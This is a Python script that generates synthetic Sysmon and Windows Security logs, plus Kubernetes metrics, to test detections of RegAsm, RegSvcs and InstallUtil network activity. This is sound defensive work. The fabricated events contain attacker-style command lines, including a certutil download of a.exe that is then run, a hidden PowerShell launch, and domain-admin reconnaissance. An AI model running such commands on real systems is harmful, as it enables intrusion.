#!/usr/bin/env python3
"""Writes examples/sysmon_network.log and examples/security_4688.log and prints the rows
the example detections must return (the tables of examples/README.md).

Made-up events in the exact XmlWinEventLog shape of the real Sysmon / Security records in
splunk/attack_data (one <Event> per line, CRLF, single-quoted attributes). Public addresses
are documentation ranges (RFC 5737) or the range-edge addresses the tests need.
Run: python3 examples/make_examples.py   (stdlib only, deterministic)
"""
import datetime as dt
import ipaddress
import os

HERE = os.path.dirname(os.path.abspath(__file__))
NS = "http://schemas.microsoft.com/win/2004/08/events/event"
SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
T0 = dt.datetime(2024, 3, 12, 9, 0, 0, tzinfo=dt.timezone.utc)

HOSTS = {
    "WS01": dict(computer="WIN-WS01.acme.local", ip="10.1.20.11", sysmon_pid=3144, rec=482100),
    "WS02": dict(computer="WIN-WS02.acme.local", ip="10.1.20.12", sysmon_pid=2876, rec=91230),
}

FW64 = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319"
FW32 = r"C:\Windows\Microsoft.NET\Framework\v4.0.30319"
FW64_2 = r"C:\Windows\Microsoft.NET\Framework64\v2.0.50727"
FW32_2 = r"C:\Windows\Microsoft.NET\Framework\v2.0.50727"

_seq = [0]


def guid(n):
    return "{6f3a9c1e-%04x-65f0-%04x-%012x}" % (0x5a00 + n, 0x1b00 + n, 0x1000000 + n)


def systime(t):
    # 7-digit fraction as Windows writes it
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%07d" % (t.microsecond * 10) + "Z"


def utctime(t):
    return t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000)


def system(host, eid, version, task, t):
    h = HOSTS[host]
    h["rec"] += 1
    _seq[0] += 1
    return (
        "<System><Provider Name='Microsoft-Windows-Sysmon' Guid='%s'/><EventID>%d</EventID>"
        "<Version>%d</Version><Level>4</Level><Task>%d</Task><Opcode>0</Opcode>"
        "<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='%s'/>"
        "<EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='%d' ThreadID='%d'/>"
        "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>%s</Computer>"
        "<Security UserID='S-1-5-18'/></System>"
        % (SYSMON_GUID, eid, version, task, systime(t), h["rec"], h["sysmon_pid"],
           4000 + (_seq[0] * 37) % 5000, h["computer"])
    )


def data(pairs):
    return "".join("<Data Name='%s'>%s</Data>" % (k, v) for k, v in pairs)


def event(sys_xml, pairs):
    return "<Event xmlns='%s'>%s<EventData>%s</EventData></Event>" % (NS, sys_xml, data(pairs))


PORTNAMES = {443: "https", 80: "http", 53: "domain", 445: "microsoft-ds", 8080: "http-alt",
             5985: "-", 8443: "-"}

events = []      # (time, host, xml)
net_rows = []    # what the engine should derive for EventID 3: dict of CIM fields


def at(minutes, frac):
    # seconds spread deterministically; frac < 0.5 keeps %S the same whether truncated or rounded
    secs = (minutes * 23 + int(frac * 100) * 7) % 60
    return T0 + dt.timedelta(minutes=minutes, seconds=secs, microseconds=int(frac * 1e6))


def net(minutes, frac, host, user, image, pid, n, dest_ip, dport, sport, proto="tcp",
        dest_hostname=""):
    t = at(minutes, frac)
    h = HOSTS[host]
    pairs = [
        ("RuleName", "-"), ("UtcTime", utctime(t - dt.timedelta(milliseconds=1870))),
        ("ProcessGuid", guid(n)), ("ProcessId", str(pid)), ("Image", image), ("User", user),
        ("Protocol", proto), ("Initiated", "true"), ("SourceIsIpv6", "false"),
        ("SourceIp", h["ip"]), ("SourceHostname", h["computer"]), ("SourcePort", str(sport)),
        ("SourcePortName", "-"), ("DestinationIsIpv6", "false"), ("DestinationIp", dest_ip),
        ("DestinationHostname", dest_hostname), ("DestinationPort", str(dport)),
        ("DestinationPortName", PORTNAMES.get(dport, "-")),
    ]
    events.append((t, host, event(system(host, 3, 5, 3, t), pairs)))
    net_rows.append(dict(_time=t, dest=h["computer"], user=user.split("\\", 1)[-1],
                         process_name=image.rsplit("\\", 1)[-1], process_path=image,
                         src_ip=h["ip"], dest_ip=dest_ip, dest_port=str(dport)))


def proc(minutes, frac, host, user, image, pid, n, cmd, parent, ppid, pn, pcmd, ofn,
         desc, cwd="C:\\Users\\Public\\"):
    t = at(minutes, frac)
    pairs = [
        ("RuleName", "-"), ("UtcTime", utctime(t - dt.timedelta(milliseconds=3))),
        ("ProcessGuid", guid(n)), ("ProcessId", str(pid)), ("Image", image),
        ("FileVersion", "4.8.9037.0 built by: NET481REL1"), ("Description", desc),
        ("Product", "Microsoft® .NET Framework"), ("Company", "Microsoft Corporation"),
        ("OriginalFileName", ofn), ("CommandLine", cmd), ("CurrentDirectory", cwd),
        ("User", user), ("LogonGuid", "{6f3a9c1e-2b10-65f0-4c8e-0a0000000000}"),
        ("LogonId", "0xa8e4c"), ("TerminalSessionId", "1"), ("IntegrityLevel", "Medium"),
        ("Hashes", "MD5=2B0E5E3E9D4C8A1F5E6D7C8B9A0F1E2D,SHA256=5D2C4F6A8B0E1D3C5F7A9B1D3E5F7A9B"
                   "1C3E5F7A9B1D3C5E7F9A1B3D5E7F9A1B,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744"),
        ("ParentProcessGuid", guid(pn)), ("ParentProcessId", str(ppid)),
        ("ParentImage", parent), ("ParentCommandLine", pcmd),
    ]
    events.append((t, host, event(system(host, 1, 5, 1, t), pairs)))


def filecreate(minutes, frac, host, image, pid, n, target):
    t = at(minutes, frac)
    pairs = [
        ("RuleName", "-"), ("UtcTime", utctime(t)), ("ProcessGuid", guid(n)),
        ("ProcessId", str(pid)), ("Image", image), ("TargetFilename", target),
        ("CreationUtcTime", utctime(t)),
    ]
    events.append((t, host, event(system(host, 11, 2, 11, t), pairs)))


def dns(minutes, frac, host, user, image, pid, n, query, results, status="0"):
    t = at(minutes, frac)
    pairs = [
        ("RuleName", "-"), ("UtcTime", utctime(t - dt.timedelta(milliseconds=412))),
        ("ProcessGuid", guid(n)), ("ProcessId", str(pid)), ("QueryName", query),
        ("QueryStatus", status), ("QueryResults", results), ("Image", image), ("User", user),
    ]
    events.append((t, host, event(system(host, 22, 5, 22, t), pairs)))


ALICE, BOB, SYSTEM = "ACME\\alice", "ACME\\bob", "NT AUTHORITY\\SYSTEM"
RA64, RA32, RA2 = FW64 + "\\RegAsm.exe", FW32 + "\\REGASM.EXE", FW32_2 + "\\regasm.exe"
RS64, RS32, RS2 = FW64 + "\\RegSvcs.exe", FW32 + "\\regsvcs.exe", FW64_2 + "\\REGSVCS.EXE"
IU64, IU32 = FW64 + "\\InstallUtil.exe", FW32 + "\\installutil.exe"

# --- process creation of the LOLBins (EventID 1: must not match the EventID=3 rules) ---
proc(0, 0.112, "WS01", ALICE, RA64, 6120, 1,
     '"%s" /U C:\\Users\\alice\\AppData\\Local\\Temp\\payload.dll' % RA64,
     r"C:\Windows\System32\cmd.exe", 5012, 90, r'"C:\Windows\system32\cmd.exe" /c run.bat',
     "RegAsm.exe", "Microsoft .NET Assembly Registration Utility")
dns(0, 0.301, "WS01", ALICE, RA64, 6120, 1, "cdn.example.net", "type:  5 edge.example.net;::ffff:203.0.113.45;")
filecreate(0, 0.410, "WS01", RA64, 6120, 1, r"C:\Users\alice\AppData\Local\Temp\stage2.tlb")

# --- regasm.exe -> public IPs (match) ---
net(1, 0.205, "WS01", ALICE, RA64, 6120, 1, "203.0.113.45", 443, 50112, dest_hostname="edge.example.net")
net(3, 0.330, "WS01", ALICE, RA64, 6120, 1, "203.0.113.45", 443, 50118, dest_hostname="edge.example.net")
net(9, 0.041, "WS01", ALICE, RA64, 6120, 1, "203.0.113.45", 443, 50131, dest_hostname="edge.example.net")
net(4, 0.250, "WS01", ALICE, RA64, 6120, 1, "172.15.255.255", 443, 50120)   # just below 172.16/12
net(5, 0.120, "WS01", ALICE, RA64, 6120, 1, "172.32.0.1", 8080, 50121)      # just above 172.31
net(6, 0.450, "WS01", ALICE, RA64, 6120, 1, "198.51.100.7", 80, 50125)
net(12, 0.080, "WS01", ALICE, RA64, 6120, 1, "198.51.100.7", 80, 50140)
# --- regasm.exe -> private range edges (no match) ---
net(2, 0.010, "WS01", ALICE, RA64, 6120, 1, "10.0.0.0", 445, 50113)
net(2, 0.220, "WS01", ALICE, RA64, 6120, 1, "10.255.255.255", 445, 50114)
net(7, 0.310, "WS01", ALICE, RA64, 6120, 1, "172.16.0.1", 443, 50127)
net(7, 0.400, "WS01", ALICE, RA64, 6120, 1, "192.168.0.1", 80, 50128)

proc(14, 0.130, "WS02", BOB, RA32,
     7344, 2, '"%s" C:\\ProgramData\\upd\\svc.dll /codebase' % RA32,
     r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", 6620, 91,
     r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden',
     "RegAsm.exe", "Microsoft .NET Assembly Registration Utility")
net(15, 0.300, "WS02", BOB, RA32, 7344, 2, "203.0.113.45", 443, 61201, dest_hostname="edge.example.net")
net(21, 0.440, "WS02", BOB, RA32, 7344, 2, "203.0.113.45", 443, 61233, dest_hostname="edge.example.net")
net(16, 0.020, "WS02", BOB, RA32, 7344, 2, "11.0.0.1", 80, 61202)           # just above 10/8
net(17, 0.100, "WS02", BOB, RA32, 7344, 2, "172.31.255.255", 443, 61210)    # top of 172.16/12
net(17, 0.200, "WS02", BOB, RA32, 7344, 2, "192.168.255.255", 443, 61211)   # top of 192.168/16
net(18, 0.330, "WS02", BOB, RA2, 7502, 3, "192.169.0.1", 443, 61215)        # just above 192.168/16
net(18, 0.400, "WS02", BOB, RA2, 7502, 3, "192.0.2.200", 8443, 61216)       # 192.x but not 192.168
filecreate(19, 0.050, "WS02", RA32, 7344, 2, r"C:\ProgramData\upd\svc.tlb")

# --- look-alike names with public destinations (no match) ---
net(22, 0.100, "WS02", BOB, r"C:\Users\bob\AppData\Local\Temp\regasm.exe.bak", 8100, 4, "203.0.113.45", 443, 61300)
net(22, 0.200, "WS02", BOB, r"C:\Users\bob\AppData\Local\Temp\notregasm.exe", 8104, 5, "203.0.113.45", 443, 61301)
net(22, 0.300, "WS01", ALICE, r"C:\Tools\regasm2.exe", 8108, 6, "203.0.113.45", 443, 50200)
net(22, 0.400, "WS01", ALICE, r"C:\Tools\regasm.exe\loader.exe", 8112, 7, "203.0.113.45", 443, 50201)
net(23, 0.100, "WS01", ALICE, r"C:\Tools\regsvcs.exe.old", 8116, 8, "203.0.113.45", 443, 50202)
net(23, 0.200, "WS02", BOB, r"C:\Users\bob\Downloads\myregsvcs.exe", 8120, 9, "198.51.100.7", 443, 61302)

# --- regsvcs.exe ---
proc(24, 0.010, "WS01", ALICE, RS64, 6604, 10, '"%s" C:\\Users\\alice\\Music\\tools.dll' % RS64,
     r"C:\Windows\explorer.exe", 4188, 92, r"C:\Windows\Explorer.EXE",
     "RegSvcs.exe", "Microsoft .NET Services Installation Utility")
net(25, 0.150, "WS01", ALICE, RS64, 6604, 10, "198.51.100.99", 443, 50300)
net(27, 0.350, "WS01", ALICE, RS64, 6604, 10, "198.51.100.99", 443, 50305)
net(26, 0.100, "WS01", ALICE, RS64, 6604, 10, "10.255.255.255", 443, 50301)
net(26, 0.200, "WS01", ALICE, RS64, 6604, 10, "172.16.0.1", 80, 50302)
dns(24, 0.300, "WS02", BOB, RS32, 7720, 11, "update.example.org", "::ffff:198.51.100.99;")
net(28, 0.120, "WS02", BOB, RS32, 7720, 11, "198.51.100.99", 443, 61400)
net(28, 0.220, "WS02", BOB, RS32, 7720, 11, "192.168.0.1", 443, 61401)
net(29, 0.010, "WS02", SYSTEM, RS2, 1880, 12, "11.0.0.1", 80, 61410)
net(31, 0.420, "WS02", SYSTEM, RS2, 1880, 12, "11.0.0.1", 80, 61415)
net(30, 0.300, "WS02", SYSTEM, RS2, 1880, 12, "172.32.0.1", 443, 61412)
net(30, 0.400, "WS02", SYSTEM, RS2, 1880, 12, "172.31.255.255", 443, 61413)

# --- installutil.exe (the project's own rule) ---
proc(33, 0.200, "WS01", ALICE, IU64, 5236, 13,
     '"%s" /logfile= /LogToConsole=false /U C:\\Users\\alice\\AppData\\Roaming\\inst.dll' % IU64,
     r"C:\Windows\System32\cmd.exe", 5012, 90, r'"C:\Windows\system32\cmd.exe" /c run.bat',
     "InstallUtil.exe", "Microsoft .NET Framework installation utility")
net(34, 0.050, "WS01", ALICE, IU64, 5236, 13, "203.0.113.80", 443, 50400)
net(36, 0.250, "WS01", ALICE, IU64, 5236, 13, "203.0.113.80", 443, 50407)
net(35, 0.100, "WS01", ALICE, IU64, 5236, 13, "10.1.0.5", 445, 50401)
net(37, 0.300, "WS02", BOB, IU32, 5540, 14, "198.51.100.23", 8443, 61500)
net(37, 0.400, "WS02", BOB, IU32, 5540, 14, "127.0.0.1", 5985, 61501)       # loopback: excluded

# --- ordinary processes with network connections (no rule matches) ---
net(8, 0.200, "WS01", ALICE, r"C:\Program Files\Google\Chrome\Application\chrome.exe", 2210, 20, "203.0.113.10", 443, 50150)
net(10, 0.100, "WS01", SYSTEM, r"C:\Windows\System32\svchost.exe", 1024, 21, "10.1.0.1", 53, 55012, proto="udp")
net(13, 0.300, "WS02", BOB, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", 6620, 91, "198.51.100.7", 443, 61250)
net(20, 0.250, "WS02", BOB, r"C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe", 3308, 22, "192.0.2.15", 443, 61260)
net(32, 0.150, "WS01", SYSTEM, r"C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe", 2900, 23, "10.1.0.40", 9997, 50390)
dns(11, 0.200, "WS01", ALICE, r"C:\Program Files\Google\Chrome\Application\chrome.exe", 2210, 20, "www.example.com", "::ffff:203.0.113.10;")

events.sort(key=lambda e: e[0])


def write(name, lines):
    with open(os.path.join(HERE, name), "wb") as f:
        for line in lines:
            f.write(line.encode("utf-8") + b"\r\n")


write("sysmon_network.log", [x for _, _, x in events])

# ---------------------------------------------------------------- Security 4688 ---------
SEC_GUID = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
sec = []
rec = [7731200]


def e4688(minutes, frac, computer, subj_sid, subj_user, subj_dom, logon, newpid, newname,
          elev, pid, cmd, parent, label, target_user="-"):
    t = at(minutes, frac)
    rec[0] += 1
    sys_xml = (
        "<System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='%s'/>"
        "<EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task>"
        "<Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='%s'/>"
        "<EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='%d'/>"
        "<Channel>Security</Channel><Computer>%s</Computer><Security/></System>"
        % (SEC_GUID, systime(t), rec[0], 9000 + rec[0] % 700, computer))
    pairs = [
        ("SubjectUserSid", subj_sid), ("SubjectUserName", subj_user),
        ("SubjectDomainName", subj_dom), ("SubjectLogonId", logon), ("NewProcessId", newpid),
        ("NewProcessName", newname), ("TokenElevationType", elev), ("ProcessId", pid),
        ("CommandLine", cmd), ("TargetUserSid", "S-1-0-0"), ("TargetUserName", target_user),
        ("TargetDomainName", "-"), ("TargetLogonId", "0x0"), ("ParentProcessName", parent),
        ("MandatoryLabel", label),
    ]
    sec.append((t, event(sys_xml, pairs)))


A_SID = "S-1-5-21-3623811015-3361044348-30300820-1104"
B_SID = "S-1-5-21-3623811015-3361044348-30300820-1107"
WS1, WS2 = HOSTS["WS01"]["computer"], HOSTS["WS02"]["computer"]
MED, HIGH, SYS = ("S-1-16-8192", "S-1-16-12288", "S-1-16-16384")
CMD, PS = r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
e4688(0, 0.050, WS1, A_SID, "alice", "ACME", "0xa8e4c", "0x138c", CMD, "%%1938", "0x105c",
      r'"C:\Windows\system32\cmd.exe" /c run.bat', r"C:\Windows\explorer.exe", MED)
e4688(0, 0.100, WS1, A_SID, "alice", "ACME", "0xa8e4c", "0x17e8", RA64, "%%1938", "0x138c",
      '"%s" /U C:\\Users\\alice\\AppData\\Local\\Temp\\payload.dll' % RA64, CMD, MED)
e4688(14, 0.100, WS2, B_SID, "bob", "ACME", "0x5b21f0", "0x1bf0", RA32, "%%1938", "0x19dc",
      '"%s" C:\\ProgramData\\upd\\svc.dll /codebase' % RA32, PS, MED)
e4688(24, 0.000, WS1, A_SID, "alice", "ACME", "0xa8e4c", "0x19cc", RS64, "%%1938", "0x105c",
      '"%s" C:\\Users\\alice\\Music\\tools.dll' % RS64, r"C:\Windows\explorer.exe", MED)
e4688(33, 0.150, WS1, A_SID, "alice", "ACME", "0xa8e4c", "0x1474", IU64, "%%1937", "0x138c",
      '"%s" /logfile= /LogToConsole=false /U C:\\Users\\alice\\AppData\\Roaming\\inst.dll' % IU64,
      CMD, HIGH)
e4688(38, 0.200, WS2, "S-1-5-18", "WIN-WS02$", "ACME", "0x3e7", "0x2d4", r"C:\Windows\System32\whoami.exe",
      "%%1936", "0x6a8", "whoami /all", CMD, SYS)
e4688(39, 0.300, WS2, B_SID, "bob", "ACME", "0x5b21f0", "0x1d10", r"C:\Windows\System32\net.exe",
      "%%1938", "0x19dc", "net  group \"Domain Admins\" /domain", PS, MED)
e4688(40, 0.100, WS2, B_SID, "bob", "ACME", "0x5b21f0", "0x1d2c", r"C:\Windows\System32\net1.exe",
      "%%1938", "0x1d10", r'C:\Windows\system32\net1  group "Domain Admins" /domain',
      r"C:\Windows\System32\net.exe", MED)
e4688(41, 0.400, WS1, A_SID, "alice", "ACME", "0xa8e4c", "0x1f00", r"C:\Windows\System32\certutil.exe",
      "%%1938", "0x138c", "certutil.exe -urlcache -split -f http://203.0.113.80/a.txt a.exe", CMD, MED)
e4688(42, 0.050, WS1, A_SID, "alice", "ACME", "0xa8e4c", "0x1f3c", r"C:\Users\alice\AppData\Local\Temp\a.exe",
      "%%1938", "0x138c", "a.exe", CMD, MED)
e4688(43, 0.250, WS2, "S-1-5-18", "WIN-WS02$", "ACME", "0x3e7", "0x1e60",
      r"C:\Program Files\Windows Defender\MpCmdRun.exe", "%%1936", "0x344",
      "", r"C:\Windows\System32\services.exe", SYS)
sec.sort(key=lambda e: e[0])
write("security_4688.log", [x for _, x in sec])  # an empty CommandLine stays an empty element

# ---------------------------------------------------------------- expected results ------
PRIV = [ipaddress.ip_network(n) for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16")]


def public(ip, extra=()):
    a = ipaddress.ip_address(ip)
    return not any(a in n for n in PRIV + [ipaddress.ip_network(x) for x in extra])


def table(name, keys, rows):
    groups = {}
    for r in rows:
        k = tuple(r[x] for x in keys)
        g = groups.setdefault(k, [0, r["_time"], r["_time"]])
        g[0] += 1
        g[1] = min(g[1], r["_time"])
        g[2] = max(g[2], r["_time"])
    f = lambda t: t.strftime("%Y-%m-%dT%H:%M:%S")
    print("\n### %s (%d rows)\n" % (name, len(groups)))
    print("| " + " | ".join(keys + ["count", "firstTime", "lastTime"]) + " |")
    print("|" + "---|" * (len(keys) + 3))
    for k in sorted(groups):
        c, a, b = groups[k]
        print("| " + " | ".join(list(k) + [str(c), f(a), f(b)]) + " |")


BY = ["dest", "user", "process_name", "src_ip", "dest_ip"]
table("Detect Regasm with Network Connection", BY,
      [r for r in net_rows if r["process_name"].lower() == "regasm.exe" and public(r["dest_ip"])])
table("Detect Regsvcs with Network Connection", BY,
      [r for r in net_rows if r["process_name"].lower() == "regsvcs.exe" and public(r["dest_ip"])])
table("Detect InstallUtil with Network Connection",
      ["dest", "user", "process_name", "process_path", "src_ip", "dest_ip", "dest_port"],
      [r for r in net_rows if r["process_name"].lower() == "installutil.exe"
       and public(r["dest_ip"], ["127.0.0.0/8"])])
print("\nsysmon_network.log: %d events (%d EventID 3); security_4688.log: %d events"
      % (len(events), len(net_rows), len(sec)))


# k8s_metrics.json: OpenTelemetry Collector metrics as its splunk_hec exporter sends them (one
# HEC metric payload per line, `metric_name:<name>` fields and dimensions). Worker node
# worker-1 runs `bash` with CPU activity, worker-2 an idle `sh`, and kubelet is not a shell.
import json

K8S_T0 = 1764979200  # 2025-12-06T00:00:00Z


def k8s_process(t, node, pid, exe, path, cpu, mem):
    return {"time": t, "host": node, "source": "otel-collector", "sourcetype": "otel:metrics",
            "index": "kubernetes_metrics", "event": "metric",
            "fields": {"host.name": node, "k8s.cluster.name": "prod-eks", "k8s.node.name": node,
                       "process.pid": str(pid), "process.executable.name": exe,
                       "process.executable.path": path,
                       "metric_name:process.cpu.utilization": cpu,
                       "metric_name:process.memory.utilization": mem}}


k8s = []
for i in range(6):
    t = K8S_T0 + 5 * i
    k8s.append(k8s_process(t, "worker-1", 4242, "bash", "/bin/bash", round(0.02 * i, 2), 0.01))
    k8s.append(k8s_process(t, "worker-1", 77, "kubelet", "/usr/bin/kubelet", 0.3, 0.2))
    k8s.append(k8s_process(t, "worker-2", 999, "sh", "/bin/sh", 0, 0))
for i, (direction, io) in enumerate([("receive", 1200), ("transmit", 800), ("receive", 1800)]):
    k8s.append({"time": K8S_T0 + 10 * i, "host": "worker-2", "index": "kubernetes_metrics", "event": "metric",
                "fields": {"metric_name": "k8s.pod.network.io", "_value": io, "k8s.cluster.name": "prod-eks",
                           "k8s.pod.name": "web-1", "k8s.node.name": "worker-2", "direction": direction}})
with open(os.path.join(HERE, "k8s_metrics.json"), "w", newline="\n") as f:
    f.write("".join(json.dumps(p, separators=(",", ":")) + "\n" for p in k8s))
print("k8s_metrics.json: %d metric payloads" % len(k8s))


# k8s_metrics.otlp.json: the same points as OTLP JSON, one batch per time a line, as an
# OpenTelemetry Collector's `file` exporter writes them; ESCU's detections give the same rows
# over either file (tests/metrics.rs).
def attrs(d):
    return [{"key": k, "value": {"stringValue": str(v)}} for k, v in d.items()]


SPLUNK_META = {"com.splunk.index": "kubernetes_metrics", "com.splunk.source": "otel-collector",
               "com.splunk.sourcetype": "otel:metrics"}
batches = {}
for p in k8s:
    f = p["fields"]
    ns = str(p["time"] * 10**9)
    if "metric_name" in f:
        res = {k: v for k, v in f.items() if k.startswith("k8s.")}
        res.update({"host.name": p["host"], "com.splunk.index": "kubernetes_metrics"})
        metrics = [{"name": f["metric_name"], "unit": "By", "sum": {
            "aggregationTemporality": 2, "isMonotonic": True,
            "dataPoints": [{"attributes": attrs({"direction": f["direction"]}), "timeUnixNano": ns,
                            "asInt": str(f["_value"])}]}}]
    else:
        res = {k: v for k, v in f.items() if not k.startswith("metric_name:")}
        res.update(SPLUNK_META)
        # The exporter makes a resource's host.name the event's host, not a dimension; these
        # detections group by host.name, so the points carry it too.
        metrics = [{"name": k.split(":", 1)[1], "unit": "1", "gauge": {
            "dataPoints": [{"attributes": attrs({"host.name": p["host"]}), "timeUnixNano": ns, "asDouble": v}]}}
            for k, v in f.items() if k.startswith("metric_name:")]
    batches.setdefault(p["time"], []).append(
        {"resource": {"attributes": attrs(res)},
         "scopeMetrics": [{"scope": {"name": "otelcol/hostmetricsreceiver/process"}, "metrics": metrics}]})
with open(os.path.join(HERE, "k8s_metrics.otlp.json"), "w", newline="\n") as f:
    f.write("".join(json.dumps({"resourceMetrics": b}, separators=(",", ":")) + "\n"
                    for _, b in sorted(batches.items())))
print("k8s_metrics.otlp.json: %d batches" % len(batches))
